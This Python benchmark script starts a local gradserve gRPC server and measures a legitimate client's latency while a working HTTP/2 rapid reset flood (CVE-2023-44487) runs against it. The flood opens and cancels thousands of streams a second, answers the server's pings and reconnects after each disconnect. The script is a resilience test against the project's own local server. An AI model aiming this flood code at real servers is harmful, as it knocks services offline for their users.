"""Rapid reset (HTTP/2 CVE-2023-44487, issue 19): a legitimate client's latency while one
connection opens and resets streams as fast as it can.

    uv run python bench/rapid_reset.py [--calls 200] [--rate 13000] [-- SERVER OPTIONS ...]

It starts ``gradserve serve --workers 1`` (its defaults, plus any options after ``--``) and
measures a legitimate client's small ``Evaluate`` (one at a time, on its own connection):
``--calls`` calls undisturbed, then as many again while an abusive connection opens and at
once resets streams to ``Evaluate`` at up to ``--rate`` streams a second. The abuser writes
precomputed frames (HEADERS then RST_STREAM(CANCEL) per stream, in batches), and a second
thread reads what the server sends and acknowledges its PINGs, as a client that follows
the protocol but for the resets would; a connection the server closes is replaced. It
prints the legitimate p50 and p99 calm and under the flood, their ratio (the goal: p50
within 3x), how the legitimate calls ended, the streams opened per second, how often the
server closed the abusive connection, and the server's log lines per second.
"""

import argparse
import socket
import struct
import sys
import threading
import time
from collections import Counter
from pathlib import Path

import grpc
import hpack
import numpy as np

if __package__ in (None, ""):  # run as a script: make the `bench` package importable
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from bench.h2_client import request_headers
from bench.servers import one_worker
from bench.soak import small_graph
from gradserve.client import connect
from gradserve.v1 import gradserve_pb2 as pb

METHOD = "/gradserve.v1.GradientService/Evaluate"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING = 0x1, 0x3, 0x4, 0x6
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 0x8
BATCH = 200  # streams per write


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header_block(port: int) -> bytes:
    """The request headers, HPACK-encoded without indexing, so one block serves every stream."""
    headers = request_headers(port, METHOD)
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*h) for h in headers])


class ResetFlood:
    """One connection after another opening and resetting streams, until stopped."""

    def __init__(self, port: int, rate: float) -> None:
        self.port, self.rate = port, rate
        self.block = header_block(port)
        self.streams = 0
        self.closed = 0  # connections the server closed
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self.stop.is_set():
            try:
                with socket.create_connection(("127.0.0.1", self.port), timeout=5) as sock:
                    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
                    reader = threading.Thread(target=self._read, args=(sock,), daemon=True)
                    reader.start()
                    self._flood(sock)
            except OSError:
                self.closed += 1
                self.stop.wait(0.05)

    def _flood(self, sock: socket.socket) -> None:
        stream = 1
        started = time.monotonic()
        while not self.stop.is_set() and stream < 2**31 - 2 * BATCH:
            batch = bytearray()
            for _ in range(BATCH):
                batch += frame(HEADERS, END_HEADERS, stream, self.block)
                batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                stream += 2
            sock.sendall(batch)
            self.streams += BATCH
            ahead = self.streams / self.rate - (time.monotonic() - started)
            if ahead > 0:
                time.sleep(ahead)

    def _read(self, sock: socket.socket) -> None:
        """Read the server's frames; acknowledge its SETTINGS and PINGs."""
        buffer = b""
        try:
            while chunk := sock.recv(65_536):
                buffer += chunk
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    kind, flags = buffer[3], buffer[4]
                    payload, buffer = buffer[9 : 9 + length], buffer[9 + length :]
                    if kind == SETTINGS and not flags & ACK:
                        sock.sendall(frame(SETTINGS, ACK, 0, b""))
                    elif kind == PING and not flags & ACK:
                        sock.sendall(frame(PING, ACK, 0, payload))
        except OSError:
            pass

    def __enter__(self):
        self.started = time.monotonic()
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.stop.set()
        self.thread.join(timeout=10)
        self.seconds = time.monotonic() - self.started


def latencies(stub, calls: int, outcomes: Counter) -> list[float]:
    request = pb.EvaluateRequest(graph=small_graph(np.random.default_rng(0)))
    taken = []
    for _ in range(calls):
        started = time.perf_counter()
        try:
            stub.Evaluate(request, timeout=10)
            outcomes["OK"] += 1
        except grpc.RpcError as error:
            outcomes[error.code().name] += 1
        taken.append(time.perf_counter() - started)
    return sorted(taken)


def percentile(sorted_values: list[float], q: float) -> float:
    return sorted_values[min(len(sorted_values) - 1, int(q * len(sorted_values)))]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--calls", type=int, default=200)
    parser.add_argument("--rate", type=float, default=13_000)
    parser.add_argument("server_options", nargs="*", help="after --: gradserve serve options")
    args = parser.parse_args()
    with one_worker(args.server_options) as server:
        channel, stub = connect(server.target)
        with channel:
            calm_outcomes, flood_outcomes = Counter(), Counter()
            latencies(stub, 20, Counter())  # warm up
            calm = latencies(stub, args.calls, calm_outcomes)
            lines_before = len(server.lines)
            with ResetFlood(server.port, args.rate) as flood:
                time.sleep(1)
                flooded = latencies(stub, args.calls, flood_outcomes)
            lines = len(server.lines) - lines_before
    p50_calm, p50_flood = percentile(calm, 0.5), percentile(flooded, 0.5)
    print(
        f"rapid reset ({' '.join(args.server_options) or 'defaults'}): legitimate p50 "
        f"{p50_calm * 1e3:.1f} ms calm, {p50_flood * 1e3:.1f} ms under the flood "
        f"({p50_flood / p50_calm:.1f}x; goal 3x); p99 {percentile(calm, 0.99) * 1e3:.1f} / "
        f"{percentile(flooded, 0.99) * 1e3:.1f} ms; calls {dict(flood_outcomes)}; "
        f"{flood.streams / flood.seconds:,.0f} streams/s opened and reset, connection "
        f"closed by the server {flood.closed} times; {lines / flood.seconds:,.0f} log lines/s"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
